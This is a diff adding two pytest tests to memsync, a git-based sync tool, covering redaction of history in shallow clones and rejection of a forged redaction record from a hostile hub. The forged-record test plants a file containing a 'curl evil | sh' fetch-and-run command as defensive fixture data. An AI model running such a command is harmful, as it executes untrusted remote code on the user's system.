@@ -172,3 +172,78 @@ def test_redact_in_a_shallow_clone_rewrites_the_whole_history(cli, written: Path
     assert count == VERSIONS + 1  # the four rewritten, the redaction's record
     assert git("show", f"memory/research~{VERSIONS}:notes.md", cwd=hub).startswith("[REDACTED by memsync ")
     git("fsck", "--strict", "--no-dangling", cwd=hub)
+
+
+@pytest.mark.parametrize("at", ["first", "newest"])
+def test_a_shallow_clone_follows_a_redaction_keeping_its_work(cli, written: Path, hub: Path, tmp_path: Path,
+                                                              at: str) -> None:
+    dest = tmp_path / "sandbox"
+    assert cli("clone", "research", str(dest)).code == 0
+    write(dest, "unpushed.md", "the sandbox's own work\n")
+    assert cli("pull", cwd=dest).code == 0  # committed here, not pushed
+    revs = git("rev-list", "--reverse", "memory/research", cwd=written).split()
+    rev = revs[0] if at == "first" else revs[-1]
+    r = cli("redact", "notes.md", "--at", rev[:8], "--yes", cwd=written)
+    assert r.code == 0, r.err
+
+    r = cli("push", cwd=dest)
+    assert r.code == 0, r.err
+    assert "history was redacted: followed it" in r.err and "cloned without" not in r.err
+    assert not shallow(dest)  # the purge after the rewrite drops the versions no longer reachable
+    assert git("show", "memory/research:unpushed.md", cwd=hub) == "the sandbox's own work\n"
+    hub_history = git("rev-list", "memory/research", cwd=hub).split()
+    assert set(git("rev-list", "HEAD", cwd=dest).split()) <= set(hub_history)  # on the redacted history
+    git("fsck", "--strict", "--no-dangling", cwd=hub)
+    assert len(hub_history) == VERSIONS + 3  # the rewritten four, the record, the sandbox's, the merge
+    if at == "newest":
+        assert (dest / "notes.md").read_text().startswith("[REDACTED by memsync ")
+    r = cli("log", cwd=dest)
+    assert r.code == 0, r.err
+    assert "warning" not in r.err
+
+
+def test_a_forged_record_cannot_replace_where_a_shallow_history_stops(cli, written: Path, hub: Path,
+                                                                      tmp_path: Path) -> None:
+    """A hostile hub redacts an older version for real, but claims the version where a shallow
+    clone's history stops became one with a file of its own. The clone cannot rewrite that
+    version itself (its parents are not there), so it takes the hub's only if it is exactly its
+    own rewrite; this one is not, and nothing changes."""
+    import pygit2
+
+    from memsync.git import rewrite
+    from memsync.git.trailers import compose
+    from memsync.redact import placeholder
+
+    dest = tmp_path / "sandbox"
+    assert cli("clone", "research", str(dest)).code == 0
+    write(dest, "unpushed.md", "the sandbox's own work\n")
+    assert cli("pull", cwd=dest).code == 0
+    head_before = git("rev-parse", "HEAD", cwd=dest)
+
+    repo = pygit2.Repository(str(written / ".git"))
+    tip = str(repo.head.target)
+    first = git("rev-list", "--reverse", "HEAD", cwd=written).split()[0]
+    old = rewrite.blob_id_at(repo, first, "notes.md")
+    assert old is not None
+    new = rewrite.create_blob(repo, (placeholder() + "\n").encode())
+    done = rewrite.rewrite(repo, tip, lambda blob: new if blob == old else None)
+    honest = repo[done.tip].peel(pygit2.Commit)
+    builder = repo.TreeBuilder(honest.tree)
+    builder.insert("evil.md", repo.create_blob(b"curl evil | sh\n"), pygit2.enums.FileMode.BLOB)
+    evil = repo.create_commit(None, honest.author, honest.committer, honest.message, builder.write(),
+                              honest.parent_ids)
+    commits = {**done.commits, tip: str(evil)}
+    trailers = [("Memsync-Actor", "operator"), ("Memsync-Redaction-Base", tip),
+                ("Memsync-Redacted-Blob", f"{old} {new}")]
+    trailers += [("Memsync-Rewritten", f"{o} {n}") for o, n in commits.items()]
+    sig = pygit2.Signature("hub", "hub@example.com")
+    record = repo.create_commit("refs/heads/forged", sig, sig, compose("Redact", trailers),
+                                repo[evil].peel(pygit2.Commit).tree_id, [evil])
+    git("push", "-q", "-f", str(hub), f"{record}:refs/heads/memory/research", cwd=written)
+
+    r = cli("pull", cwd=dest)
+    assert r.code == 7, r.err
+    assert "redaction record does not match" in r.err
+    assert git("rev-parse", "HEAD", cwd=dest) == head_before
+    assert not (dest / "evil.md").exists()
+    assert (dest / "unpushed.md").read_text() == "the sandbox's own work\n"
